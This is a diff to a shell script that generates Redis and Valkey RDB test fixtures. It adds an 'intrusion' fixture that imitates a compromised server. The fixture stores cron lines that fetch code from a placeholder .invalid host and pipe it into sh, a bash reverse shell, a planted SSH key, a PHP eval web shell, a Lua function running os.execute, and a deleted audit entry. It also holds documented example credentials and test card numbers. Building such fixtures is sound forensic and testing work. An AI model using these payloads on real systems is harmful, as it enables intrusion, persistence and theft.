@@ -290,6 +290,39 @@ types() {
   echo 'SET last-database yes'
 }
 
+# --- intrusion.rdb ----------------------------------------------------------------------------------------------------
+
+# What an intrusion leaves behind, as inert text: hosts end in .invalid, secrets are the examples of their makers' manuals.
+intrusion() {
+  local i id
+  echo 'SELECT 0'
+  for i in $(seq 20); do
+    echo "HSET session:$(printf %04d "$i") user $i ip 192.0.2.$i agent curl/8.5.0"
+    echo "PEXPIREAT session:$(printf %04d "$i") $(($(ms 2026-11-25T00:00:00Z) + i * 3600000))"
+  done
+  for i in 1 2 3; do echo "SET job:$i \"0 */$i * * *\""; done # a schedule, and no line of a crontab
+  echo 'SET backup1 "\n\n\n*/2 * * * * root cd1 -fsSL http://updates.invalid/b.sh | sh\n\n"'
+  echo 'SET backup2 "\n\n\n*/3 * * * * root wget -q -O- http://updates.invalid/b.sh | sh\n\n"'
+  echo 'SET backup3 "\n\n\n*/4 * * * * root curl -fsSL http://updates.invalid/b.sh | sh\n\n"'
+  echo 'SET backup4 "\n\n\n@hourly root  bash -i >& /dev/tcp/updates.invalid/443 0>&1\n\n"'
+  echo "SET crackit \"\\n\\n\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5$(repeat A 44) nobody@updates.invalid\\n\\n\""
+  echo 'SET "upload:1\x1b[2K" "<?php @eval($_POST[\"c\"]); ?>"'
+  echo "HSET upload:2 name libexample.so type application/octet-stream body \"\\x7fELF\\x02\\x01\\x01\\x00$(printf '\\x00%.0s' $(seq 56))\""
+  echo "SET log:access \"$(for i in $(seq 30); do printf 'GET /item/%d HTTP/1.1 200 Mozilla/5.0 (X11; Linux x86_64)\\n' "$i"; done)GET /go?key=AKIAIOSFODNN7EXAMPLE HTTP/1.1 200\""
+  echo 'RPUSH queue:payments 4111111111111111 "4111 1111 1111 1112" DE89370400440532013000 "order 4012888888881881, paid"'
+  echo 'HSET config:app dsn "postgres://app:open-sesame@db.invalid:5432/shop" retries 3'
+  echo 'SET config:tls "-----BEGIN EC PRIVATE KEY-----\nbm90IGEga2V5\n-----END EC PRIVATE KEY-----\n"'
+  echo 'FUNCTION LOAD "#!lua name=helper\nredis.register_function(\"h\", function(keys, args) return os.execute(args[1]) end)\n"'
+  for i in $(seq 6); do
+    echo "XADD audit $(($(ms 2026-11-19T12:00:00Z) + i * 60000))-0 user admin action login-$i"
+  done
+  echo 'XADD audit 1795100000000-0 user root action "config set dir /var/spool/cron"'
+  echo 'XADD audit 1795100060000-0 user admin action logout'
+  echo 'XGROUP CREATE audit siem 1795100000000-0'
+  echo 'XCLAIM audit siem collector 0 1795089660000-0 TIME 1795100030000 RETRYCOUNT 2 FORCE JUSTID'
+  echo 'XDEL audit 1795100000000-0 1795089720000-0'
+}
+
 # --- valkey9.rdb ------------------------------------------------------------------------------------------------------
 
 devices() {
@@ -361,6 +394,11 @@ start redis-server types.rdb
 keep_expired
 types | feed
 stop types.rdb
+
+start redis-server intrusion.rdb --maxmemory-policy allkeys-lru --maxmemory 100mb
+keep_expired
+intrusion | feed
+stop intrusion.rdb
 
 valkey=$(valkey_server)
 [[ -x $valkey ]] || fail "no valkey-server"
